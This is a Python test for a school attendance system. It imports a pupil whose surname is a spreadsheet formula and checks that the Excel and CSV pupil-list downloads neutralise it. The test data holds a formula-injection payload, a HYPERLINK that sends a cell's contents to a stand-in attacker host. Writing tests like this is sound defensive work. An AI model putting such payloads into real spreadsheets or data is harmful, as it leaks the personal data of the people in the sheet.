"""A surname that is a spreadsheet formula, imported from a CTF, comes out of the pupil list's Excel download
as a string cell and out of its CSV download behind OWASP's leading ', so no spreadsheet runs it."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from rollbook.rules import upn as upns
from rollbook.web.imports.service import run_import

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PUPIL = upns.make(823, 4001, 23, 7)
PAGE = "/schools/100001/attendance/pupil-list/"
CTF = f"""<?xml version="1.0" encoding="UTF-8"?>
<CTfile><Header><SourceSchool><LEA>823</LEA><Estab>4001</Estab><URN>100001</URN>
<SchoolName>Alder School</SchoolName><AcademicYear>2024/25</AcademicYear></SourceSchool></Header>
<CTFpupilData><Pupil><UPN>{PUPIL}</UPN><Surname>{FORMULA.replace("&", "&amp;")}</Surname>
<Forename>Sam</Forename><DOB>2012-03-01</DOB><Gender>M</Gender><BasicDetails><NCyearActual>8</NCyearActual></BasicDetails>
<SchoolHistory><School><LEA>823</LEA><Estab>4001</Estab><EntryDate>2023-09-01</EntryDate></School></SchoolHistory>
<Attendance><YearData><Year>2024</Year><AttendSessions><AttendanceStartDate>2024-09-09</AttendanceStartDate>
<AttendanceMarks>/\\/\\</AttendanceMarks></AttendSessions></YearData></Attendance></Pupil></CTFpupilData></CTfile>
"""


def test_the_surname_is_text_in_both_downloads(world, tmp_path):
    (tmp_path / "alder.xml").write_text(CTF, encoding="utf-8")
    (outcome,) = run_import([tmp_path / "alder.xml"], actor="cli:operator")
    assert outcome.landed, outcome.report.text()
    pam = world.client_for(world.pam)

    sheet = load_workbook(io.BytesIO(pam.get(PAGE + "?format=xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if FORMULA in str(cell.value)]
    assert cells and all(cell.data_type == "s" for cell in cells)

    text = pam.get(PAGE + "?format=csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if FORMULA in cell]
    assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
